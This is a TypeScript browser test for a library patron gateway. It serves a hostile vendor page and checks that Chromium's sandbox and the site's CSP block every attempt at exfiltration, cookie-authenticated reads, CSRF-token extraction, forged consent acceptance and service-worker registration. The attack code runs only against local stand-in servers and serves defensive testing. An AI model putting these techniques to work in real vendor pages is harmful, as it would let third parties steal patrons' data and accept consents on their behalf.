/// <reference lib="dom" />
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../helpers/browser.ts';
import { startGateway, testContract, type Harness } from '../helpers/gateway-harness.ts';
import { startRecordingUpstream, type RecordingUpstream } from '../helpers/recording-upstream.ts';

/**
 * In a real Chromium: a vendor page, however it is typed, runs sandboxed and cannot reach beyond
 * the vendor's own space. The vendor answers `Content-Type: application/json, text/html` (which
 * Chromium renders as HTML, and which the old type list left unsandboxed) with a page that tries
 * everything markup can to reach an "elsewhere" server (image, script, style, CSS url(), font,
 * prefetch, preconnect, preload, manifest, speculation rules, ping, form) and an inline script.
 * The inline script must not run; then the test runs, inside the page, what any script would try:
 * read /me/sharing and another vendor's notice with the patron's cookies, accept that notice,
 * register a service worker, read cookies and storage, and reach elsewhere by fetch, beacon,
 * WebSocket, EventSource, image, worker, ping, form and added speculation rules. Elsewhere must
 * receive nothing, not even a connection.
 */
const PATRON = { patronId: 'p-sb1', barcode: '27500000000001', birthDate: '1980-01-01' };

let vendor: RecordingUpstream;
let victim: RecordingUpstream;
let gateway: Harness;
let browser: Browser;
let elsewhere: Server;
let elsewhereUrl = '';
const elsewhereRequests: string[] = [];
const elsewhereConnections: Socket[] = [];
/** Every request the gateway itself received (method and path), to see what the page reached. */
const gatewayRequests: string[] = [];
let cookie = '';

/** The page the vendor serves: loads from elsewhere in every way markup can, and an inline script. */
function attackPage(type: string): string {
  const E = elsewhereUrl;
  return `<!doctype html><html><head>
<link rel="stylesheet" href="${E}/style.css">
<link rel="prefetch" href="${E}/prefetch">
<link rel="preconnect" href="${E.replace('127.0.0.1', 'localhost')}">
<link rel="preload" as="font" href="${E}/font.woff2" crossorigin>
<link rel="manifest" href="${E}/manifest.json">
<style>body { background: url(${E}/css-bg.png); } @font-face { font-family: x; src: url(${E}/font2.woff2); } p { font-family: x; }</style>
<script src="${E}/script.js"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${E}/speculation"]}], "prerender": [{"source": "list", "urls": ["${E.replace('127.0.0.1', 'localhost')}/prerender"]}]}</script>
</head><body data-type="${type}">
<p>text</p>
<img src="${E}/img.png">
<video poster="${E}/poster.png"></video>
<object data="${E}/object"></object>
<a id="pinger" href="#here" ping="${E}/ping">ping</a>
<script>document.body.setAttribute('data-inline-ran', 'yes');</script>
</body></html>`;
}

/** How the vendor answers: its service worker script, or the attack page with the type asked for. */
function answerVendor(req: IncomingMessage, res: ServerResponse): void {
  const type = new URL(req.url ?? '/', 'http://vendor').searchParams.get('type') ?? 'text/html';
  if (req.url?.startsWith('/sw.js')) {
    res.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' });
    res.end('self.addEventListener("fetch", () => {});');
    return;
  }
  res.writeHead(200, { 'Content-Type': type === 'none' ? '' : type, 'Service-Worker-Allowed': '/', 'Access-Control-Allow-Origin': '*' });
  res.end(attackPage(type));
}

/**
 * What a script on the vendor page would try, run in the page (the test's stand-in for a script:
 * inline ones do not run at all). Returns what each attempt achieved.
 */
async function attack(elsewhere: string): Promise<Record<string, string>> {
  const results: Record<string, string> = {};
  const attempt = async (name: string, run: () => Promise<string>): Promise<void> => {
    try {
      results[name] = await run();
    } catch (error) {
      results[name] = `blocked:${(error as Error).name}`;
    }
  };
  await attempt('sharing', async () => {
    const r = await fetch('/me/sharing', { credentials: 'include' });
    return `read:${r.status}:${(await r.text()).length}`;
  });
  await attempt('notice', async () => {
    const r = await fetch('/notices/victim', { credentials: 'include' });
    return `read:${r.status}:${/name="csrf" value="([^"]+)"/.exec(await r.text()) ? 'token' : 'no-token'}`;
  });
  await attempt('accept', async () => {
    const r = await fetch('/notices/victim', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'decision=accept&consent=share-email-with-vendors' });
    return `sent:${r.status}`;
  });
  await attempt('cookie', async () => `read:${document.cookie}`);
  await attempt('storage', async () => {
    localStorage.setItem('x', '1');
    return 'stored';
  });
  await attempt('sw', async () => {
    await navigator.serviceWorker.register('/v/evil/sw.js', { scope: '/v/evil/' });
    return 'registered';
  });
  await attempt('fetch', async () => {
    await fetch(`${elsewhere}/fetch`, { method: 'POST', mode: 'no-cors', body: 'x' });
    return 'sent';
  });
  await attempt('beacon', async () => (navigator.sendBeacon(`${elsewhere}/beacon`, 'x') ? 'queued' : 'refused'));
  await attempt('ws', async () => {
    new WebSocket(`${elsewhere.replace('http', 'ws')}/ws`);
    return 'opened';
  });
  await attempt('es', async () => {
    new EventSource(`${elsewhere}/es`);
    return 'opened';
  });
  await attempt('image', async () => {
    new Image().src = `${elsewhere}/img2.png`;
    return 'set';
  });
  await attempt('worker', async () => {
    new Worker(`${elsewhere}/worker.js`);
    return 'started';
  });
  await attempt('ping', async () => {
    document.getElementById('pinger')?.click();
    return 'clicked';
  });
  await attempt('speculation', async () => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${elsewhere}/speculation-added`] }] });
    document.head.append(rules);
    return 'added';
  });
  return results;
}

beforeAll(async () => {
  elsewhere = createServer((req, res) => {
    elsewhereRequests.push(`${req.method} ${req.url}`);
    res.end('');
  });
  elsewhere.on('connection', (socket: Socket) => elsewhereConnections.push(socket));
  elsewhere.on('upgrade', (req, socket) => {
    elsewhereRequests.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

  vendor = await startRecordingUpstream();
  victim = await startRecordingUpstream();
  vendor.respond(answerVendor);
  gateway = await startGateway({
    patrons: [{ record: { ...PATRON, email: 'ana@example.org', consents: [] }, pin: '1111' }],
    contracts: {
      evil: testContract('evil', vendor.url, 'identity: { delivery: none }'),
      victim: testContract('victim', victim.url, 'identity: { delivery: jwt }\npreset: pseudonymous\nfields: { email: { action: pass, consent: share-email-with-vendors } }'),
    },
  });
  gateway.server.prependListener('request', (req) => gatewayRequests.push(`${req.method} ${req.url}`));
  // Accept only the evil vendor's notice: the victim's stays unaccepted.
  cookie = await gateway.login(PATRON.barcode, '1111', { acceptNotices: false });
  cookie = await gateway.acceptNotice(cookie, 'evil', []);
  browser = await launchChromium();
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await gateway?.close();
  await vendor?.close();
  await victim?.close();
  elsewhere?.closeAllConnections();
  elsewhere?.close();
});

async function signedInPage(options: { bypassCSP?: boolean } = {}): Promise<{ context: BrowserContext; page: Page }> {
  // CSP is enforced (no bypassCSP) unless a test says otherwise: that is what is under test.
  const context = await browser.newContext({ bypassCSP: options.bypassCSP ?? false });
  const url = new URL(gateway.url);
  await context.addCookies(
    cookie.split('; ').map((pair) => {
      const at = pair.indexOf('=');
      return { name: pair.slice(0, at), value: pair.slice(at + 1), domain: url.hostname, path: '/', httpOnly: true, sameSite: 'Lax' as const };
    }),
  );
  return { context, page: await context.newPage() };
}

describe('a vendor page in Chromium stays inside its sandbox and its own space', () => {
  it.each([
    ['typed "application/json, text/html" (rendered as HTML)', 'application/json, text/html'],
    ['typed text/html', 'text/html'],
    ['untyped', 'none'],
    ['typed text/plain, text/html', 'text/plain, text/html'],
  ])('%s: runs no inline script, reads nothing of the gateway, registers no worker, and elsewhere hears nothing', async (_name, type) => {
    const { context, page } = await signedInPage();
    try {
      const beforeGateway = gatewayRequests.length;
      const beforeVictim = victim.requests.length;
      const response = await page.goto(`${gateway.url}/v/evil/attack?type=${encodeURIComponent(type)}`);
      expect(response?.status()).toBe(200);
      expect(await page.evaluate(() => document.body?.getAttribute('data-inline-ran') ?? 'no')).toBe('no');
      const results = await page.evaluate(attack, elsewhereUrl);
      // Nothing of the gateway could be read or done with the patron's cookies.
      expect(results['sharing']).toMatch(/^blocked:/);
      expect(results['notice']).toMatch(/^blocked:/);
      expect(results['accept']).toMatch(/^blocked:/);
      expect(results['cookie']).toMatch(/^blocked:|^read:$/);
      expect(results['storage']).toMatch(/^blocked:/);
      expect(results['sw']).toMatch(/^blocked:/);
      expect(context.serviceWorkers()).toEqual([]);
      // Give stray loads (prefetch, ping, beacon, speculation) time to leave, if they were going to.
      await page.waitForTimeout(1500);
      expect(gatewayRequests.slice(beforeGateway).filter((r) => !r.startsWith('GET /v/evil/'))).toEqual([]);
      expect(victim.requests.length).toBe(beforeVictim);
      expect(vendor.requests.filter((r) => r.url.startsWith('/sw.js'))).toEqual([]);
      // The patron's notice for the victim was not accepted behind their back.
      const sharing = await fetch(`${gateway.url}/me/sharing`, { headers: { cookie } });
      expect(await sharing.text()).not.toMatch(/data-vendor="victim"[^]*You accepted the notice on/);
    } finally {
      await context.close();
    }
    expect(elsewhereRequests).toEqual([]);
    expect(elsewhereConnections.length).toBe(0);
  });

  it('a frame or a form to elsewhere is never requested (Chromium still opens a connection to a blocked navigation\'s origin: see the README)', async () => {
    vendor.respond((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<!doctype html><iframe src="${elsewhereUrl}/frame"></iframe><iframe src="${gateway.url}/me/sharing"></iframe><form id="f" method="post" action="${elsewhereUrl}/form"><input name="x" value="1"></form>`);
    });
    const { context, page } = await signedInPage();
    try {
      const beforeGateway = gatewayRequests.length;
      await page.goto(`${gateway.url}/v/evil/framed`);
      await page.evaluate(() => (document.getElementById('f') as HTMLFormElement | null)?.requestSubmit());
      await page.waitForTimeout(1000);
      expect(gatewayRequests.slice(beforeGateway)).toEqual(['GET /v/evil/framed']);
    } finally {
      await context.close();
      vendor.respond(answerVendor);
    }
    expect(elsewhereRequests).toEqual([]);
  });

  it('even a script on the gateway\'s own origin with no CSP in its way cannot make a vendor\'s script a service worker (the gateway refuses the worker fetch)', async () => {
    // bypassCSP: the gateway page's own policy (worker-src falls back to 'none') would stop the
    // registration first; this checks the layer under it, the refusal of the worker's script.
    const { context, page } = await signedInPage({ bypassCSP: true });
    try {
      await page.goto(`${gateway.url}/leaving`);
      const before = vendor.requests.length;
      // The test drives the page directly (a stand-in for any script that ever ran on the origin).
      const outcome = await page.evaluate(async () => {
        try {
          await navigator.serviceWorker.register('/v/evil/sw.js', { scope: '/v/evil/' });
          return 'registered';
        } catch (error) {
          return `refused:${(error as Error).name}`;
        }
      });
      expect(outcome).toMatch(/^refused:/);
      expect(context.serviceWorkers()).toEqual([]);
      expect(vendor.requests.length).toBe(before);
    } finally {
      await context.close();
    }
  });
});
